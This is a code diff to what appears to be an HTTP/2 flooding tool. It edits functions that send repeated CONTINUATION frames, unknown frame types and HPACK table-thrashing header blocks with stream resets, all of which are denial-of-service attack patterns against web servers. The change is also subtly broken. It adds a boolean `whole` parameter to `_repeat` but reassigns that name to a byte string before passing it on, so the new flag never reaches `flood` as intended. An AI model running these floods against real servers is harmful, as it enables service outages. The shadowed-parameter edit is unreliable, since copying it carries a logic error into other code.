@@ -96,7 +96,7 @@ def continuation_empty(attack: Attack) -> None:
 
 def _continuations(attack: Attack, fragment: bytes) -> None:
     start = opening() + frames.frame(frames.HEADERS, 0, 1, REQUEST)
-    _repeat(attack, frames.frame(frames.CONTINUATION, 0, 1, fragment), start)
+    _repeat(attack, frames.frame(frames.CONTINUATION, 0, 1, fragment), start, whole=False)
 
 
 # -- other frames
@@ -144,10 +144,12 @@ def unknown_frames(attack: Attack) -> None:
     _repeat(attack, frames.frame(0xFA, 0xFF, 0, b""))
 
 
-def _repeat(attack: Attack, data: bytes, start: bytes | None = None, units: int = 1, read: bool = True) -> None:
+def _repeat(
+    attack: Attack, data: bytes, start: bytes | None = None, units: int = 1, read: bool = True, whole: bool = True
+) -> None:
     times = max(1, RECORD // len(data))
     whole = data * times
-    flood(attack, lambda number: whole, units * times, start, read)
+    flood(attack, lambda number: whole, units * times, start, read, whole)
 
 
 # -- HPACK
@@ -171,9 +173,7 @@ def hpack_forwarded(attack: Attack) -> None:
 def hpack_thrash(attack: Attack) -> None:
     # 34 bytes of the table for each 5 bytes, so each block fills and evicts it many times over.
     block = REQUEST + b"".join(literal(b"%c" % (97 + i % 26), b"%d" % (i % 10), index=True) for i in range(1700))
-    flood(
-        attack, lambda number: b"".join(headers(i, block) + frames.rst_stream(i, _CANCEL) for i in ids(number, 2)), 2
-    )
+    flood(attack, lambda number: b"".join(headers(i, block) + frames.rst_stream(i, _CANCEL) for i in ids(number, 2)), 2)
 
 
 def hpack_resize(attack: Attack) -> None:
